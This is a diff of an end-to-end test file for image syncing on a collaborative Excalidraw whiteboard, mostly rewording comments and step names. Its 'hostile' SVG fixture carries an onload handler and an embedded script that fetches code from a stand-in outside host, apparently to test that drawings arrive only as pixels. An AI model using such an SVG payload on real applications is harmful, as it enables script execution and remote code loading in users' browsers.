@@ -1,4 +1,4 @@
-/** Images on a board: from the inserting device to all others, also after that device has gone. */
+/** Images on a board: they reach all devices, also after the inserting one has left. */
 
 import type { Instance } from '../../processes/instance.ts';
 import { expect, test } from '../../processes/instances.ts';
@@ -25,7 +25,7 @@ async function dropImage(one: Instance, at: { readonly x: number; readonly y: nu
   await drop(one, dataTransfer, at);
 }
 
-/** A drawing that runs, loads and embeds whatever it can. */
+/** A drawing that tries to run scripts, load resources and embed a page. */
 const hostile = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200"
   onload="window.wasRun = true"><script>window.wasRun = true; fetch('http://outside.example/script')</script>
   <image xlink:href="http://outside.example/image.png" width="9" height="9"/>
@@ -55,25 +55,22 @@ async function drop(
   await canvas.dispatchEvent('drop', { dataTransfer, clientX: x, clientY: y });
 }
 
-/** Waits until so much of the canvas has this colour that it is the image, and not an edge of something. */
+/** Waits until more of the canvas has this colour than an outline could cover. */
 async function expectColour(
   one: Instance,
-  [red, green, blueness]: readonly [number, number, number],
+  colour: readonly [red: number, green: number, blue: number],
 ): Promise<void> {
   const count = () =>
-    one.whiteboard.locator('canvas.static').evaluate(
-      (canvas, [r, g, b]) => {
-        if (!(canvas instanceof HTMLCanvasElement)) throw new Error('Excalidraw has another canvas now');
-        const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? {
-          data: [],
-        };
-        let pixels = 0;
-        for (let i = 0; i < data.length; i += 4)
-          if (data[i] === r && data[i + 1] === g && data[i + 2] === b) pixels += 1;
-        return pixels;
-      },
-      [red, green, blueness] as const,
-    );
+    one.whiteboard.locator('canvas.static').evaluate((canvas, [r, g, b]) => {
+      if (!(canvas instanceof HTMLCanvasElement)) throw new Error('Excalidraw has another canvas now');
+      const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? {
+        data: [],
+      };
+      let pixels = 0;
+      for (let i = 0; i < data.length; i += 4)
+        if (data[i] === r && data[i + 1] === g && data[i + 2] === b) pixels += 1;
+      return pixels;
+    }, colour);
   await expect.poll(count).toBeGreaterThan(1_000);
 }
 
@@ -92,7 +89,7 @@ test('an image reaches all devices from any holder, and a drawing arrives as pix
   await Promise.all([ben.join(link), vera.join(viewLink)]);
   await ada.expectPeople(3);
 
-  await test.step('all devices show its pixels, a viewer’s too', async () => {
+  await test.step('all devices show its pixels, including a viewer’s', async () => {
     await Promise.all([ada.showWhiteboard(), ben.showWhiteboard(), vera.showWhiteboard()]);
     await dropImage(ada, { x: 500, y: 300 });
     for (const one of [ada, ben, vera]) await expectColour(one, magenta);
@@ -115,7 +112,7 @@ test('an image reaches all devices from any holder, and a drawing arrives as pix
     await ada.expectElements(2);
   });
 
-  await test.step('a newcomer gets both without the inserting device, and keeps them across a reload', async () => {
+  await test.step('a newcomer receives both without the inserting device, and keeps them across a reload', async () => {
     await ben.person('Ada');
     await expect(ben.page.getByTestId('kept-images')).toContainText('2 images');
     await ben.closeDialog();
@@ -123,7 +120,7 @@ test('an image reaches all devices from any holder, and a drawing arrives as pix
     await vera.quit();
     const cleo = await instances.start('Cleo');
     watch(cleo);
-    // Nothing settles without Ada’s vote; the settled board is there.
+    // Nothing settles without Ada’s vote, but the settled board is available.
     await cleo.submitLink(link);
     await expect(cleo.health).toBeVisible();
     await cleo.showWhiteboard();
